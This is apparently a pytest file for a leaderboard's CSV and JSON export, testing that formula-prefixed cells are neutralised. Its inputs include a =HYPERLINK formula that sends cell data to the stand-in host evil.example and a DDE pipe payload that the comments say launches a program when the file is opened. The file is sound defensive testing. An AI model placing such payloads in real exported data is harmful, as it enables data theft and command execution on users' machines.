"""JSON and CSV exports of the board (app/leaderboard/export.py)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from leaderboard_factories import T0, entry

from app.leaderboard.export import board_csv, board_json, neutralise
from app.leaderboard.reference import reported_rows
from app.leaderboard.view import Board, build_board

HOSTILE_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def make_board(team: str = "team a", method: str = "m") -> Board:
    return build_board(
        [entry(7, team, method, "NL", {"ctr": 0.71, "cvr": None, "ctcvr": 0.85}, team_id=1)],
        split="public", revealed=False, country=None, ranking="mean_auc", groups=None,
        groups_state="unavailable", reported=reported_rows("challenge"), generated_at=T0,
    )


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "|", "\t", "\r"])
def test_formula_prefixes_are_neutralised(prefix: str) -> None:
    assert neutralise(prefix + "1+1").startswith("'")


def test_plain_text_is_left_alone() -> None:
    assert neutralise("team a-1") == "team a-1"


def test_csv_neutralises_hostile_team_and_method_names() -> None:
    text = board_csv(make_board(team=HOSTILE_TEAM, method="@SUM(A1:A9)"))
    rows = list(csv.DictReader(io.StringIO(text)))
    measured = [r for r in rows if r["kind"] == "measured"]
    assert measured[0]["team"] == "'" + HOSTILE_TEAM
    assert measured[0]["method"] == "'@SUM(A1:A9)"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


def test_a_dde_pipe_team_name_is_exported_as_text() -> None:
    # The attack: `|cmd` runs a DDE call in LibreOffice/old Excel when the CSV is opened.
    dde = "|calc'!A0"
    text = board_csv(make_board(team=dde, method="|x"))
    measured = [r for r in csv.DictReader(io.StringIO(text)) if r["kind"] == "measured"]
    assert measured[0]["team"] == "'" + dde
    assert measured[0]["method"] == "'|x"


def test_csv_has_five_fields_per_column_and_the_reported_rows() -> None:
    rows = list(csv.reader(io.StringIO(board_csv(make_board()))))
    header, body = rows[0], rows[1:]
    assert len(header) == 8 + 12 * 5
    assert [r[0] for r in body] == ["measured"] + ["reported"] * 5
    measured = dict(zip(header, body[0], strict=True))
    assert measured["NL_ctr_auc"] == "0.710000"
    assert measured["NL_cvr_auc"] == ""
    assert measured["NL_ctr_submission_id"] == "7"


def test_json_nests_cells_by_country_and_task() -> None:
    data = board_json(make_board())
    json.dumps(data)  # serialisable as is
    cells = data["entries"][0]["cells"]
    assert cells["NL"]["ctr"]["auc"] == pytest.approx(0.71)
    assert cells["NL"]["cvr"]["auc"] is None
    assert cells["NL"]["cvr"]["reason"] == "one class only"
    assert data["formula"].startswith("mean AUC")
    assert len(data["columns"]) == 12
    assert {r["source"] for r in data["reported"]} == {"challenge"}
